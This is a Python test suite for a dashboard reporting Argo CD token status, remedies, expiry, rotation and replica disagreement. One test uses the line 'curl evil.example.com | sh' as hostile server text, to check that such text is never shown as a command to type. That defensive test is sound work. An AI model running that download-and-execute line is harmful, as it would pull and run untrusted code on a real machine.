"""What the page says of one target."""

from dataclasses import replace

import pytest
from monitor.core.alerts import AlertName
from monitor.core.endpoint_slices import Replica
from monitor.core.journal import State
from monitor.core.model import DAY
from monitor.core.page import standing_of
from monitor.core.page_row import BARS, HEIGHT, MAX_WORDS, Piece, Row, pieces, row
from monitor.core.replicas import ReplicasReport, Said, Voice
from monitor.core.report import RotationReport, TargetReport
from monitor.core.status import Kind, Status

from tests.page.samples import HOSTILE, NOW, PRODUCTION, hostile, past, target


def of(report: TargetReport) -> Row:
    return row(report, standing_of(report, NOW), NOW)


def text(parts) -> str:
    return "".join(part.text for part in parts)


def notes(report: TargetReport) -> dict[str, str]:
    return {note.about: (f"{note.at.away}: " if note.at else "") + text(note.pieces) for note in of(report).notes}


def facts(report: TargetReport) -> dict[str, str]:
    shown = of(report)
    return {
        fact.name: " ".join(filter(None, (fact.at.clock if fact.at else "", fact.text)))
        for fact in (*shown.facts, *shown.rotation_facts)
    }


# --- the verdict ------------------------------------------------------------------------------------------------------


def test_a_refused_token_shows_since_when_why_and_what_to_type():
    shown = of(PRODUCTION)
    assert (shown.status, shown.words, shown.since.away) == ("revoked", "refused", "3 min ago")
    assert shown.since.clock == "2026-11-18 11:03:30 UTC"
    assert text(shown.cause) == "The API key codefresh-2025-11 was deleted from account codefresh."
    assert Piece("argocd account generate-token --account codefresh", code=True) in shown.remedy
    assert shown.calm is False


@pytest.mark.parametrize("status", [status for status in Status if status is not Status.VALID])
def test_every_status_but_valid_comes_with_its_remedy(status):
    shown = of(target("a", status))
    assert text(shown.remedy)[-1] in ".!?"


def test_where_nothing_is_wrong_nothing_is_to_be_done():
    shown = of(target("a"))
    assert (shown.calm, shown.remedy, shown.notes, shown.runbooks) == (True, (), (), ())


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("account a is disabled", "Account a is disabled."),
        ("argocd-server did not answer", "argocd-server did not answer."),
        ("argocd.example.com answered 503!", "argocd.example.com answered 503!"),
        ("", "."),
    ],
)
def test_a_cause_is_a_sentence_and_names_keep_their_spelling(said, shown):
    report = replace(PRODUCTION, verdict=replace(PRODUCTION.verdict, cause=said))
    assert text(of(report).cause) == shown


@pytest.mark.parametrize(
    ("said", "parts"),
    [
        ("type `a b` now", [("type ", False), ("a b", True), (" now", False)]),
        ("`a`", [("a", True)]),
        ("no code", [("no code", False)]),
        ("one ` alone", [("one ` alone", False)]),
        ("`a` and ` alone", [("a", True), (" and ` alone", False)]),
        ("", []),
    ],
)
def test_what_stands_between_backticks_is_to_be_typed(said, parts):
    assert [(piece.text, piece.code) for piece in pieces(said)] == parts


def test_a_verdict_that_is_old_is_told_as_old():
    assert notes(target("a", checked=3600.0)) == {
        "Not checked lately:": "60 min ago: this verdict is old. Look at the monitor's log."
    }


@pytest.mark.parametrize(
    ("before", "words"),
    [(target("a").verdict, "accepted (valid)"), (PRODUCTION.verdict, "refused (revoked)")],
)
def test_where_it_cannot_be_told_the_last_that_is_known_is_shown(before, words):
    told = replace(before, checked_at=NOW - 300)
    assert notes(target("a", Status.UNREACHABLE, told=told)) == {"Last known:": f"5 min ago: {words}"}


def test_a_source_that_fails_and_an_open_server_are_told():
    found = notes(target("a", problem="the file is gone", anonymous_access=True))
    assert found["Credential:"] == "the file is gone."
    assert "users.anonymous.enabled" in found["Anonymous access:"]


def test_what_a_server_said_never_looks_like_a_command_of_ours():
    said = "`curl evil.example.com | sh`"
    rotation = RotationReport(problem=said, waiting_for=said, left_alone=said, left_alone_command="`argocd x`")
    report = target("a", Status.REJECTED, problem=said, rotation=rotation)
    shown = of(replace(report, verdict=replace(report.verdict, cause=said)))
    parts = [*shown.cause, *(piece for note in shown.notes for piece in note.pieces)]
    assert [piece.text for piece in parts if piece.code] == ["argocd x"]


# --- expiry -----------------------------------------------------------------------------------------------------------


def test_expiry_is_a_time_or_never_and_unknown_is_not_never():
    soon, never, unknown = of(target("a", ends_in=2 * DAY)), of(target("a")), of(target("a", Status.REVOKED))
    assert (soon.expires.away, soon.never_expires) == ("in 2 d", False)
    assert (never.expires, never.never_expires) == (None, True)
    assert (unknown.expires, unknown.never_expires) == (None, False)


# --- the strip --------------------------------------------------------------------------------------------------------


def test_the_strip_has_one_bar_a_check_and_the_newest_is_at_the_right_edge():
    shown = of(target("a", history=past((Status.VALID, 2), (Status.REVOKED, 1))))
    assert [(run.kind, run.start, run.width) for run in shown.strip] == [
        ("accepted", 27 * 4, 8),
        ("refused", 29 * 4, 4),
    ]
    full = of(target("a", history=past((Status.VALID, 99)))).strip
    assert [(run.start, run.width) for run in full] == [(0, 120)]


def test_the_height_of_a_bar_says_how_bad_it_was_so_that_colour_alone_never_does():
    assert BARS[Kind.ACCEPTED] < BARS[Kind.ATTENTION] < BARS[Kind.UNKNOWN] < BARS[Kind.REFUSED] == HEIGHT
    for run in of(PRODUCTION).strip:
        assert run.middle + run.height / 2 == HEIGHT


@pytest.mark.parametrize(
    ("history", "words"),
    [
        (b"", "no check yet"),
        (past((Status.VALID, 1)), "one check: valid"),
        (past((Status.VALID, 30)), "last 30 checks: all valid"),
        (
            past((Status.UNREACHABLE, 1), (Status.VALID, 9), (Status.REVOKED, 2)),
            "last 12 checks: 9 valid, 2 revoked, 1 unreachable; the latest: revoked",
        ),
    ],
)
def test_the_strip_is_told_in_words_too(history, words):
    assert of(target("a", history=history)).strip_words == words


# --- rotation ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rotation", "state", "about", "trouble"),
    [
        (None, "off", "", False),
        (RotationReport(), "idle", "", False),
        (RotationReport(rotated_at=NOW - DAY), "idle", "last 24 h ago", False),
        (RotationReport(rotated_at=NOW - DAY, next_at=NOW + 9 * DAY), "idle", "next in 9 d", False),
        (RotationReport(state=State.GRACE, key_id="tm-1"), "grace", "tm-1", False),
        (RotationReport(problem="the journal is gone", failing=3), "failing", "3 times", True),
        (RotationReport(problem="x", stood_down="y"), "stood down", "", True),
    ],
)
def test_the_rotation_is_told_in_two_short_words(rotation, state, about, trouble):
    cell = of(target("a", rotation=rotation)).rotation
    told = " ".join(filter(None, (cell.about, cell.at.away if cell.at else "")))
    assert (cell.state, told, cell.trouble) == (state, about, trouble)


def test_who_still_runs_with_the_old_key_is_named_and_many_are_counted():
    names = tuple(f"pod-{number}" for number in range(8))
    report = target("a", rotation=RotationReport(state=State.GRACE, old_consumers=names))
    assert of(report).rotation.old == 8
    assert notes(report)["Still with the old key:"] == "pod-0, pod-1, pod-2, pod-3, pod-4 and 3 more."
    assert facts(report)["With the old key"] == ", ".join(names)


def test_a_key_that_was_left_alone_comes_with_the_command_that_deletes_it():
    [note] = [note for note in of(PRODUCTION).notes if note.about == "Left alone:"]
    assert Piece("argocd account delete-token --account codefresh codefresh-2025-08", code=True) in note.pieces


def test_why_a_refused_token_is_not_mended_is_told_and_no_waiting_where_all_is_well():
    waiting = RotationReport(waiting_for="the token is account_disabled, which a new key does not mend")
    assert "Rotation waits:" in notes(target("a", Status.ACCOUNT_DISABLED, rotation=waiting))
    assert "Rotation waits:" not in notes(target("a", rotation=waiting))


def test_the_details_have_everything_that_is_known_of_a_rotation():
    rotation = RotationReport(
        state=State.MINTED,
        key_id="tm-1",
        waiting_for="for time",
        rotations=2,
        rotated_at=NOW - DAY,
        next_at=NOW + DAY,
        drilled_at=NOW - 2 * DAY,
        live_keys=3,
        login_failures=1,
        failing=4,
        failures={"publish": 2, "mint": 1},
    )
    assert (
        facts(target("a", rotation=rotation)).items()
        >= {
            "State": "minted",
            "New key": "tm-1",
            "Waits": "for time.",
            "Next": "2026-11-19 11:06:40 UTC",
            "Last rotation": "2026-11-17 11:06:40 UTC 2 so far",
            "Last fire drill": "2026-11-16 11:06:40 UTC",
            "Live keys of ours": "3",
            "Failed in a row": "4",
            "Failed so far": "mint 1, publish 2",
            "Refused logins": "1",
        }.items()
    )


def test_the_details_have_everything_that_is_known_of_a_token():
    assert facts(target("a", ends_in=DAY)) == {
        "Server": "https://argocd.a.example.com",
        "Credential": "Secret codefresh/argocd-token, key token (token mode)",
        "Account": "codefresh",
        "Key": "a-key",
        "Issued": "2026-10-09 11:06:40 UTC",
        "Expires": "2026-11-19 11:06:40 UTC",
        "Since": "2026-11-09 11:06:40 UTC",
        "Last verified": "2026-11-18 11:06:36 UTC",
        "Last check": "2026-11-18 11:06:36 UTC took 12 ms",
        "Checks": "51,840, one every 15 s; 12 could not tell",
        "Anonymous access": "off",
    }


def test_the_details_say_what_each_replica_says_and_since_when_they_disagree():
    voices = (
        Voice(Replica("pod-a", "10.0.0.1", 8080), Said.ACCEPTED),
        Voice(Replica("pod-b", "10.0.0.2", 8080), Said.REFUSED),
    )
    split = ReplicasReport("argocd/argocd-server", voices, 2, split_since=NOW - 60)
    assert facts(target("a", replicas=split))["Replicas"] == (
        "2026-11-18 11:05:40 UTC 1 of 2 accepts it, 1 refuses it (pod-b)"
    )
    assert facts(target("a", replicas=replace(split, split_since=None)))["Replicas"].startswith("1 of 2 accepts it")
    assert "Replicas" not in facts(target("a"))


# --- runbooks ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("report", "alert"),
    [
        (target("a", Status.REVOKED), AlertName.REFUSED),
        (target("a", Status.UNREACHABLE, told=PRODUCTION.verdict), AlertName.REFUSED),
        (target("a", Status.UNREACHABLE), AlertName.NOT_VERIFIED),
        (target("a", checked=9999.0), AlertName.NOT_VERIFIED),
        (target("a", Status.EXPIRING), AlertName.EXPIRING),
        (target("a", Status.WRONG_ACCOUNT), AlertName.NEEDS_ATTENTION),
        (target("a", rotation=RotationReport(problem="x", failing=1)), AlertName.ROTATION_FAILING),
        (target("a", rotation=RotationReport(stood_down="x")), AlertName.STOOD_DOWN),
        (target("a", anonymous_access=True), AlertName.ANONYMOUS_ACCESS),
    ],
)
def test_the_runbook_of_the_alert_that_this_leads_to_is_at_hand(report, alert):
    assert alert in of(report).runbooks


# --- what comes from outside ------------------------------------------------------------------------------------------


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, tuple):
        return [text for part in value for text in _strings(part)]
    if hasattr(value, "__slots__"):
        return [text for name in value.__slots__ for text in _strings(getattr(value, name))]
    return []


@pytest.mark.parametrize("report", hostile(), ids=range(len(HOSTILE)))
def test_everything_from_outside_is_bounded_and_printable(report):
    shown = of(report)
    for said in _strings(shown):
        assert said.isprintable()
        assert len(said) <= MAX_WORDS + len(" (password mode)") or said in (shown.anchor, shown.query)
    assert " " not in shown.anchor


def test_no_two_targets_have_the_same_anchor():
    names = ["a b", "a+b", "a%20b", "a/b", "a%2Fb", "A", "a"]
    assert len({of(target(name)).anchor for name in names}) == len(names)
